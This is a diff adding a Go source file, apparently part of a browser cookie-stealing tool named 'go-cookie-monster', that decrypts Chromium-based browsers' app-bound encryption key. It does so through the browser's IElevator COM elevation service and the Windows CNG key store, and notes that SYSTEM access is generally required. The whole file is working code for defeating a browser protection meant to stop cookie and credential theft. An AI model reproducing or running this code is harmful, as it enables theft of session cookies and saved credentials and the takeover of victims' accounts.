@@ -0,0 +1,270 @@
+package keys
+
+import (
+	"encoding/base64"
+	"fmt"
+	"syscall"
+	"unsafe"
+
+	"go-cookie-monster/pkg/browsers"
+
+	"golang.org/x/sys/windows"
+)
+
+const (
+	// COM constants
+	COINIT_APARTMENTTHREADED = 0x2
+	CLSCTX_LOCAL_SERVER      = 0x4
+
+	// Authentication levels
+	RPC_C_AUTHN_DEFAULT           = 0xFFFFFFFF
+	RPC_C_AUTHZ_DEFAULT           = 0xFFFFFFFF
+	RPC_C_AUTHN_LEVEL_PKT_PRIVACY = 6
+	RPC_C_IMP_LEVEL_IMPERSONATE   = 3
+	EOAC_DYNAMIC_CLOAKING         = 0x40
+
+	// CNG constants
+	MS_KEY_STORAGE_PROVIDER = "Microsoft Software Key Storage Provider"
+	NCRYPT_SILENT_FLAG      = 0x40
+)
+
+var (
+	ole32    = windows.NewLazySystemDLL("ole32.dll")
+	oleaut32 = windows.NewLazySystemDLL("oleaut32.dll")
+
+	procCoInitializeEx        = ole32.NewProc("CoInitializeEx")
+	procCoUninitialize        = ole32.NewProc("CoUninitialize")
+	procCoCreateInstance      = ole32.NewProc("CoCreateInstance")
+	procCoSetProxyBlanket     = ole32.NewProc("CoSetProxyBlanket")
+	procSysAllocStringByteLen = oleaut32.NewProc("SysAllocStringByteLen")
+	procSysFreeString         = oleaut32.NewProc("SysFreeString")
+
+	ncrypt                        = windows.NewLazySystemDLL("ncrypt.dll")
+	procNCryptOpenStorageProvider = ncrypt.NewProc("NCryptOpenStorageProvider")
+	procNCryptOpenKey             = ncrypt.NewProc("NCryptOpenKey")
+	procNCryptDecrypt             = ncrypt.NewProc("NCryptDecrypt")
+	procNCryptFreeObject          = ncrypt.NewProc("NCryptFreeObject")
+)
+
+type IElevator struct {
+	lpVtbl *[elevatorVtblSize]uintptr
+}
+
+// Vtable slot of IElevator::DecryptData after IUnknown, RunRecoveryCRXElevated and EncryptData.
+// Browsers whose interface derives from a longer base shift it by Browser.ElevatorBaseMethods.
+const (
+	elevatorDecryptDataSlot = 5
+	elevatorVtblSize        = 16
+)
+
+func bytesToBSTR(data []byte) uintptr {
+	if len(data) == 0 {
+		return 0
+	}
+	ret, _, _ := procSysAllocStringByteLen.Call(
+		uintptr(unsafe.Pointer(&data[0])),
+		uintptr(len(data)),
+	)
+	return ret
+}
+
+func freeBSTR(bstr uintptr) {
+	if bstr != 0 {
+		procSysFreeString.Call(bstr)
+	}
+}
+
+func bstrToBytes(bstr uintptr) []byte {
+	if bstr == 0 {
+		return nil
+	}
+	length := *(*int32)(unsafe.Pointer(bstr - 4))
+	slice := &struct {
+		Data uintptr
+		Len  int
+		Cap  int
+	}{bstr, int(length), int(length)}
+	return *(*[]byte)(unsafe.Pointer(slice))
+}
+
+// GetAppBoundKey decrypts the app-bound key through the browser's elevation service and
+// post-processes Chrome 133+ results with the browser's flag keys and CNG key
+func GetAppBoundKey(key string, browser browsers.Browser) (string, error) {
+	if browser.ElevatorCLSID == "" || browser.ElevatorIID == "" {
+		return "", fmt.Errorf("%s has no elevation service", browser.Name)
+	}
+	clsid, err := windows.GUIDFromString(browser.ElevatorCLSID)
+	if err != nil {
+		return "", fmt.Errorf("invalid elevator CLSID for %s: %v", browser.Name, err)
+	}
+	iid, err := windows.GUIDFromString(browser.ElevatorIID)
+	if err != nil {
+		return "", fmt.Errorf("invalid elevator IID for %s: %v", browser.Name, err)
+	}
+
+	// Initialize COM
+	hr, _, _ := procCoInitializeEx.Call(0, uintptr(COINIT_APARTMENTTHREADED))
+	if hr != 0 {
+		return "", fmt.Errorf("CoInitializeEx failed: %v", hr)
+	}
+	defer procCoUninitialize.Call()
+
+	// Create an instance of the IElevator COM object
+	var elevator *IElevator
+	hr, _, _ = procCoCreateInstance.Call(
+		uintptr(unsafe.Pointer(&clsid)),
+		0,
+		uintptr(CLSCTX_LOCAL_SERVER),
+		uintptr(unsafe.Pointer(&iid)),
+		uintptr(unsafe.Pointer(&elevator)),
+	)
+	if hr != 0 {
+		return "", fmt.Errorf("failed to create IElevator instance: %v", hr)
+	}
+
+	// Set proxy blanket
+	hr, _, _ = procCoSetProxyBlanket.Call(
+		uintptr(unsafe.Pointer(elevator)),
+		uintptr(RPC_C_AUTHN_DEFAULT),
+		uintptr(RPC_C_AUTHZ_DEFAULT),
+		0,
+		uintptr(RPC_C_AUTHN_LEVEL_PKT_PRIVACY),
+		uintptr(RPC_C_IMP_LEVEL_IMPERSONATE),
+		0,
+		uintptr(EOAC_DYNAMIC_CLOAKING),
+	)
+	if hr != 0 {
+		return "", fmt.Errorf("failed to set proxy blanket: %v", hr)
+	}
+
+	// Base64 decode the key
+	encryptedKeyWithHeader, err := base64.StdEncoding.DecodeString(key)
+	if err != nil {
+		return "", fmt.Errorf("base64 decoding failed: %v", err)
+	}
+
+	// Validate key header
+	if len(encryptedKeyWithHeader) < len(kCryptAppBoundKeyPrefix) ||
+		!bytesEqual(encryptedKeyWithHeader[:len(kCryptAppBoundKeyPrefix)], kCryptAppBoundKeyPrefix) {
+		return "", fmt.Errorf("invalid key header")
+	}
+
+	// Remove prefix
+	encryptedKey := encryptedKeyWithHeader[len(kCryptAppBoundKeyPrefix):]
+	//fmt.Printf("Encrypted key length after removing prefix: %d\n", len(encryptedKey))
+
+	// Convert to BSTR
+	ciphertext := bytesToBSTR(encryptedKey)
+	if ciphertext == 0 {
+		return "", fmt.Errorf("failed to allocate BSTR for ciphertext")
+	}
+	defer freeBSTR(ciphertext)
+
+	var plaintext uintptr
+	var lastError uint32
+
+	hr = decryptData(elevator, elevatorDecryptDataSlot+browser.ElevatorBaseMethods, ciphertext, &plaintext, &lastError)
+	if hr != 0 {
+		if lastError == 13 { // ERROR_INVALID_DATA
+			return "", fmt.Errorf("decryption failed: invalid data format (try with full key including prefix)")
+		}
+		return "", fmt.Errorf("decryption failed. HRESULT: 0x%x, Last error: %d", hr, lastError)
+	}
+
+	if plaintext == 0 {
+		return "", fmt.Errorf("no plaintext returned")
+	}
+	defer freeBSTR(plaintext)
+
+	decryptedBytes := bstrToBytes(plaintext)
+
+	// Newer browsers return a flagged envelope rather than the key itself
+	decryptedKey, err := DecodeAppBoundKey(decryptedBytes, browser.AppBoundFlagKeys, cngDecryptor(browser.CNGKeyName))
+	if err != nil {
+		return "", err
+	}
+
+	// Convert the decrypted key to a hex string
+	return formatKey(decryptedKey), nil
+}
+
+// cngDecryptor returns an UnprotectFunc that decrypts with a key from the Microsoft Software Key
+// Storage Provider. Opening the browser's key generally requires running as SYSTEM.
+func cngDecryptor(keyName string) UnprotectFunc {
+	if keyName == "" {
+		keyName = DefaultAppBoundCNGKeyName
+	}
+
+	return func(data []byte) ([]byte, error) {
+		if len(data) == 0 {
+			return nil, fmt.Errorf("no data to decrypt")
+		}
+
+		providerName, err := windows.UTF16PtrFromString(MS_KEY_STORAGE_PROVIDER)
+		if err != nil {
+			return nil, err
+		}
+		keyNamePtr, err := windows.UTF16PtrFromString(keyName)
+		if err != nil {
+			return nil, err
+		}
+
+		var provider uintptr
+		status, _, _ := procNCryptOpenStorageProvider.Call(uintptr(unsafe.Pointer(&provider)), uintptr(unsafe.Pointer(providerName)), 0)
+		if status != 0 {
+			return nil, fmt.Errorf("NCryptOpenStorageProvider failed: 0x%x", status)
+		}
+		defer procNCryptFreeObject.Call(provider)
+
+		var cngKey uintptr
+		status, _, _ = procNCryptOpenKey.Call(provider, uintptr(unsafe.Pointer(&cngKey)), uintptr(unsafe.Pointer(keyNamePtr)), 0, 0)
+		if status != 0 {
+			return nil, fmt.Errorf("NCryptOpenKey(%s) failed: 0x%x", keyName, status)
+		}
+		defer procNCryptFreeObject.Call(cngKey)
+
+		// First call sizes the output buffer
+		var size uint32
+		status, _, _ = procNCryptDecrypt.Call(cngKey, uintptr(unsafe.Pointer(&data[0])), uintptr(len(data)), 0, 0, 0, uintptr(unsafe.Pointer(&size)), NCRYPT_SILENT_FLAG)
+		if status != 0 {
+			return nil, fmt.Errorf("NCryptDecrypt failed: 0x%x", status)
+		}
+		if size == 0 {
+			return nil, fmt.Errorf("NCryptDecrypt returned no data")
+		}
+
+		output := make([]byte, size)
+		status, _, _ = procNCryptDecrypt.Call(cngKey, uintptr(unsafe.Pointer(&data[0])), uintptr(len(data)), 0, uintptr(unsafe.Pointer(&output[0])), uintptr(size), uintptr(unsafe.Pointer(&size)), NCRYPT_SILENT_FLAG)
+		if status != 0 {
+			return nil, fmt.Errorf("NCryptDecrypt failed: 0x%x", status)
+		}
+
+		return output[:size], nil
+	}
+}
+
+func decryptData(elevator *IElevator, slot int, ciphertext uintptr, plaintextData *uintptr, lastError *uint32) uintptr {
+	r1, _, _ := syscall.Syscall6(
+		elevator.lpVtbl[slot],
+		4,
+		uintptr(unsafe.Pointer(elevator)),
+		ciphertext,
+		uintptr(unsafe.Pointer(plaintextData)),
+		uintptr(unsafe.Pointer(lastError)),
+		0,
+		0,
+	)
+	return r1
+}
+
+func bytesEqual(a, b []byte) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for i := range a {
+		if a[i] != b[i] {
+			return false
+		}
+	}
+	return true
+}